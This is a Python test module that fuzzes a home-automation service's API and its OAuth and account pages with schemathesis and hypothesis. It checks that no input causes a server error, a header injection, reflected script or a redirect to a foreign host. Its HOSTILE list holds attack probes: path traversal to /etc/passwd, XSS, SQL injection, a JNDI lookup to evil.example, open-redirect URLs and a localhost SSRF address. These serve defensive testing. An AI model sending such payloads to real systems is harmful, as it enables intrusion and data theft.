"""Every endpoint, sent what its document allows, what it does not, and what no form has: no answer
is a failure of ours or other than declared, and none leads to strangers.

The short runs look at each operation a few times; ``slow`` ones more often.
"""

from __future__ import annotations

import asyncio
import re
from collections.abc import Iterator
from contextlib import AsyncExitStack
from functools import partial
from typing import Any
from urllib.parse import urlencode, urlsplit

import httpx
import pytest
import requests
import schemathesis
from fastapi import FastAPI
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from schemathesis.checks import not_a_server_error
from schemathesis.generation import GenerationMode
from schemathesis.specs.openapi.checks import (
    content_type_conformance,
    response_schema_conformance,
)

from adapters.inbound.http.accounts.routes import ALL
from adapters.inbound.http.ads.parts import AdParts
from adapters.inbound.http.ads.routes import mount as mount_ads
from adapters.inbound.http.app import create_app
from adapters.inbound.http.oauth.routes import ROUTES
from adapters.inbound.http.statistics import mount as mount_statistics
from adapters.outbound.analytics.duckdb_reports import DuckDbReports
from commands.accounts.tokens import OF_SERVICES, SCOPES
from tests.support.statistics import FolderFiles, Traffic
from tests.unit.http.accounts.world import CALLBACK, EMAIL, PASSWORD, PUBLIC_URL, Browser
from tests.unit.http.ads.world import AdsWorld
from tests.unit.http.security.world import OF_APP, SECRET, Site, allowed, app_tokens
from tests.unit.http.security.world import Client as OAuthClient
from tests.unit.http.test_reports import Statistics
from tests.unit.http.world import ACCOUNT, Client, DeviceKey

FEW, MANY = 12, 60
CHECKS = [not_a_server_error, content_type_conformance, response_schema_conformance]
MODES = [GenerationMode.POSITIVE, GenerationMode.NEGATIVE]
STREAM = "/v1/live"
OURS = ("", "home.example", "shop.example", "app.homecast.test")
"""Whom an answer may lead to: nobody else, and the clients where they have registered."""


class Served:
    """An application in a loop of its own, for tests that hypothesis runs without one."""

    app: FastAPI

    def __init__(self) -> None:
        self.runner = asyncio.Runner()
        self.stack = AsyncExitStack()
        self.headers: dict[str, str] = {}
        self.known: dict[str, list[str]] = {}

    def run(self, coroutine: Any) -> Any:
        return self.runner.run(coroutine)

    def close(self) -> None:
        self.run(self.stack.aclose())
        self.runner.close()


# --- what the document says -----------------------------------------------------------------------


def ads_app(tmp: Any) -> tuple[AdsWorld, FastAPI, AdParts]:
    world = AdsWorld()
    given_: Any = world
    parts = AdParts(given_)
    files = FolderFiles(tmp)
    files.add(Traffic(5).all)
    statistics = Statistics(files, world.clock, DuckDbReports(files))
    mounts = [partial(mount_ads, parts=parts), partial(mount_statistics, statistics=statistics)]
    return world, create_app(world.api, mounts=mounts), parts


@pytest.fixture(scope="module")
def api(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    served = Served()
    served.run(begin_api(served, tmp_path_factory.mktemp("records")))
    yield served
    served.close()


async def begin_api(served: Served, tmp: Any) -> None:
    world, app, parts = ads_app(tmp)
    await served.stack.enter_async_context(app.router.lifespan_context(app))
    served.stack.push_async_callback(parts.close)
    token = await world.api.token(scopes=(*SCOPES, *OF_SERVICES[:4]))
    served.headers = {"Authorization": f"Bearer {token}"}
    served.app = app
    owner = Client(app, token)
    async with owner.http:
        lamp = DeviceKey()
        assert (await owner.claim(lamp)).status_code == 201
        assert (await owner.submit(lamp.id)).is_success
        served.known = {
            "device_id": [lamp.id],
            "number": ["1"],
            "home_id": [ACCOUNT],
            "queue": ["devices"],
            "broker": ["journey"],
            "name": ["journey"],
            "model": ["devices"],
        }
        config = {"url": "https://broker.example/"}
        answer = await owner.http.put("/v1/brokers/journey", json=config)
        assert answer.status_code == 200, answer.text


def document() -> Any:
    """Of the same application; no test needs to run for its operations to be listed."""
    app = create_app(AdsWorld().api, mounts=[mount_nothing_but_routes])
    return schemathesis.openapi.from_dict(app.openapi())


def mount_nothing_but_routes(app: FastAPI) -> None:
    nothing: Any = None
    mount_ads(app, parts=nothing)
    mount_statistics(app, statistics=nothing)


OPERATIONS = {
    f"{one.ok().method.upper()} {one.ok().path}": one.ok()
    for one in document().get_all_operations()
}
FUZZED = [name for name in OPERATIONS if " /health/" not in name and STREAM not in name]


@pytest.mark.parametrize("mode", MODES, ids=lambda one: one.value)
@pytest.mark.parametrize("name", FUZZED)
def test_an_operation_answers_as_its_document_says(
    api: Served, name: str, mode: GenerationMode
) -> None:
    fuzz(api, name, mode, FEW)


@pytest.mark.slow
@pytest.mark.parametrize("mode", MODES, ids=lambda one: one.value)
@pytest.mark.parametrize("name", FUZZED)
def test_an_operation_answers_as_its_document_says_however_often(
    api: Served, name: str, mode: GenerationMode
) -> None:
    fuzz(api, name, mode, MANY)


def fuzz(api: Served, name: str, mode: GenerationMode, times: int) -> None:
    @settings(
        max_examples=times,
        deadline=None,
        database=None,
        suppress_health_check=list(HealthCheck),
    )
    @given(case=OPERATIONS[name].as_strategy(generation_mode=mode), real=st.booleans())
    def one(case: Any, real: bool) -> None:
        """``real``: about things that are there."""
        if real:
            for parameter, values in api.known.items():
                if parameter in (case.path_parameters or {}):
                    case.path_parameters[parameter] = values[0]
        if case.query:
            case.query.pop("wait", None)  # nothing happens that could be waited for
        answer = api.run(send(api, case))
        case.validate_response(answer, checks=CHECKS)

    one()


async def send(api: Served, case: Any) -> httpx.Response:
    kwargs = case.as_transport_kwargs(base_url="http://homecast")
    asked = {k: v for k, v in kwargs.items() if k in REQUESTS}
    prepared = requests.Request(**asked).prepare()
    headers = {**{str(k): str(v) for k, v in prepared.headers.items()}, **api.headers}
    body: Any = prepared.body
    transport = httpx.ASGITransport(api.app, raise_app_exceptions=False)
    async with httpx.AsyncClient(transport=transport) as client:
        return await client.request(
            str(prepared.method), str(prepared.url), headers=headers, content=body
        )


REQUESTS = {"method", "url", "headers", "params", "data", "json", "cookies", "files"}


# --- what people and clients send -----------------------------------------------------------------

HOSTILE = (
    "", " ", "\x00", "\r\nSet-Cookie: a=b", "../../etc/passwd", "<script>alert(1)</script>",
    "' OR 1=1 --", "{{7*7}}", "${jndi:ldap://evil.example}", "9" * 400, "-1", "1e400", "NaN",
    "\ud83d\ude00" * 50, "a" * 5_000, "%ff%00", "https://evil.example/", "//evil.example",
    "/\\evil.example", "javascript:alert(1)", "http://127.0.0.1/", "\u202e", "true", "[]", "null",
)  # fmt: skip
KNOWN = (
    "authorization_code", "refresh_token", "client_credentials", "password",
    "urn:ietf:params:oauth:grant-type:device_code", "app", "shop", "service", "homecast-cli",
    SECRET, "code", "S256", "plain", "openid devices:read", "none", "login", "consent", "approve",
    "yes", EMAIL, PASSWORD, "BCDF-GHJK", "/account", "/oauth2/authorize?client_id=shop", "12345",
    "000000", OF_APP["redirect_uri"], OF_APP["code_challenge"], "owner", "guest", "2027-01-01",
)  # fmt: skip
NAMES = (
    "grant_type", "code", "redirect_uri", "code_verifier", "code_challenge", "client_id",
    "client_secret", "code_challenge_method", "refresh_token", "token", "token_type_hint", "scope",
    "state", "nonce", "prompt", "max_age", "id_token_hint", "login_hint", "response_type",
    "response_mode", "device_code", "user_code", "request", "request_uri", "decision", "seen",
    "post_logout_redirect_uri", "email", "password", "new_password", "current", "return_to",
    "credential", "name", "session_id", "sure", "home", "account_id", "role", "until", "id", "of",
    "access_token", "csrf", "done",
)  # fmt: skip
MEDIA_TYPES = (
    "application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=utf-16",
    "application/json", "multipart/form-data; boundary=x", "text/plain", "", "\xff",
)  # fmt: skip
OF_CLIENTS = [
    {"client_id": "app"},
    {"client_id": "shop", "client_secret": SECRET},
    {"client_id": "service", "client_secret": SECRET},
    {"client_id": "homecast-cli"},
]
GRANT_TYPES = (*KNOWN[:3], KNOWN[4])
ASKED = [
    {"response_type": "code", **OF_APP},
    {"response_type": "code", "client_id": "shop", "redirect_uri": CALLBACK},
]
BEGUN: dict[str, list[dict[str, str]]] = {
    "/oauth2/token": [{**one, "grant_type": kind} for one in OF_CLIENTS for kind in GRANT_TYPES],
    **{f"/oauth2/{one}": OF_CLIENTS for one in ("introspect", "revoke", "device_authorization")},
    "/oauth2/authorize": ASKED,
    "/oauth2/consent": [
        {"request": urlencode(one), "decision": said} for one in ASKED for said in ("approve", "")
    ],
    "/oauth2/logout/confirm": [{"request": "client_id=shop", "decision": "yes"}],
}
MARKUP = "<script>alert(1)</script>"
PAGES = sorted({page.path for page in ALL} | {path for path, _, _ in ROUTES})
NEITHER = re.compile(r"\{\w+\}")


@pytest.fixture(scope="module")
def pages() -> Iterator[Pages]:
    served = Pages()
    served.run(served.begin())
    yield served
    served.close()


class Pages(Served):
    """``ann`` stays signed in. ``values``: what was really given, among the hostile."""

    async def begin(self) -> None:
        self.site, self.requests = Site(), 0
        self.app = await self.stack.enter_async_context(self.site.app())
        self.ann = Browser(self.app)
        await self.ann.sign_up(self.site.server)
        client = OAuthClient(self.app)
        tokens = await app_tokens(self.ann, client)
        begun = await client.post("/oauth2/device_authorization", "homecast-cli")
        code = (await allowed(self.ann))["code"]
        given_ = (*tokens.values(), code, *(begun.json().values() if begun.is_success else ()))
        self.values = tuple(map(str, given_))
        await client.http.aclose()

    async def ask(
        self,
        method: str,
        path: str,
        fields: list[tuple[str, str]],
        media_type: str,
        *,
        own: bool,
        raw: bytes | None = None,
    ) -> httpx.Response:
        """``own``: with the token that a page of ours puts into its forms."""
        self.requests += 1
        cookies = await self.cookies()
        if own:
            fields = [one for one in fields if one[0] != "csrf"] + [("csrf", self.token(path))]
        form = urlencode(fields, errors="surrogatepass")
        content = form.encode() if raw is None else raw
        address = f"10.{self.requests >> 16 & 255}.{self.requests >> 8 & 255}.{self.requests & 255}"
        transport = httpx.ASGITransport(self.app, client=(address, 1), raise_app_exceptions=False)
        async with httpx.AsyncClient(transport=transport, base_url=PUBLIC_URL) as client:
            headers = {
                b"Content-Type": media_type.encode("latin-1"),
                b"Cookie": cookies.encode(),
            }
            if method == "GET":
                return await client.get(f"{path}?{form}", headers={"Cookie": cookies})
            return await client.request(method, path, content=content, headers=headers)

    async def cookies(self) -> str:
        if (await self.ann.http.get("/account")).status_code != 200:
            await self.ann.sign_in()
        self.session = self.ann.http.cookies["__Host-homecast"]
        return f"__Host-homecast={self.session}; __Host-homecast-before={BEFORE}"

    def token(self, path: str) -> str:
        page = next((one for one in ALL if one.path == path), None)
        mine = page is not None and not page.anonymous
        binding = f"session:{self.session.split('_')[1]}" if mine else f"before:{BEFORE}"
        server = self.site.server
        return server.pages.tokens.make(binding, path, server.clock.now())


BEFORE = "b" * 43


def require_harmless(answer: httpx.Response) -> None:
    assert answer.status_code < 500, answer.text
    assert "set-cookie" not in answer.headers or "a=b" not in answer.headers["set-cookie"]
    led = [answer.headers.get("location", "")]
    if answer.headers.get("content-type", "").startswith("text/html"):
        led += re.findall(r"(?:url=|href=.|action=.)(https?:[^\"'>]*|//[^\"'>]*)", answer.text)
        assert MARKUP not in answer.text
    for address in led:
        assert (urlsplit(address).hostname or "") in OURS, address


Fields = list[tuple[str, str]]


def fields_of(path: str, real: tuple[str, ...]) -> st.SearchStrategy[Fields]:
    """Now and then one is there twice; mostly the client, or the browser, is one that is known."""
    values = st.sampled_from((*HOSTILE, *KNOWN, *real)) | st.text(max_size=30)
    names = st.sampled_from(NAMES) | st.text(max_size=10)
    some = st.dictionaries(names, values, max_size=7)
    nothing: dict[str, str] = {}
    begun = st.sampled_from(BEGUN.get(path, [nothing])) | st.just(nothing)
    whole = st.tuples(begun, some).map(lambda two: [*{**two[1], **two[0]}.items()])
    return whole | whole | whole | st.lists(st.tuples(names, values), max_size=9)


def fuzz_forms(pages: Pages, path: str, times: int) -> None:
    @settings(
        max_examples=times,
        deadline=None,
        database=None,
        suppress_health_check=list(HealthCheck),
    )
    @given(
        method=st.sampled_from(["POST", "POST", "GET"]),
        fields=fields_of(path, pages.values),
        media_type=st.sampled_from([MEDIA_TYPES[0]] * 40 + list(MEDIA_TYPES)),
        own=st.sampled_from([True, True, True, False]),
        raw=st.sampled_from([True] * 9 + [False]).flatmap(
            lambda form: st.none() if form else st.binary(max_size=200)
        ),
    )
    def one(
        method: str, fields: list[tuple[str, str]], media_type: str, own: bool, raw: bytes | None
    ) -> None:
        plain = NEITHER.sub("x", path)
        answer = pages.run(pages.ask(method, plain, fields, media_type, own=own, raw=raw))
        require_harmless(answer)

    one()


@pytest.mark.parametrize("path", PAGES)
def test_no_form_makes_a_page_fail_or_lead_astray(pages: Pages, path: str) -> None:
    fuzz_forms(pages, path, 3 * FEW)


@pytest.mark.slow
@pytest.mark.parametrize("path", PAGES)
def test_no_form_makes_a_page_fail_or_lead_astray_however_often(pages: Pages, path: str) -> None:
    fuzz_forms(pages, path, 2 * MANY)


def test_a_form_with_its_token_gets_as_far_as_its_page(pages: Pages) -> None:
    """Else the others would only knock at the door."""
    fields = [("email", "new@example.org")]
    answer = pages.run(pages.ask("POST", "/signup", fields, MEDIA_TYPES[0], own=True))
    assert answer.headers["location"].startswith("/mail-sent")
    answer = pages.run(pages.ask("POST", "/account/data/download", [], MEDIA_TYPES[0], own=True))
    assert answer.status_code == 200
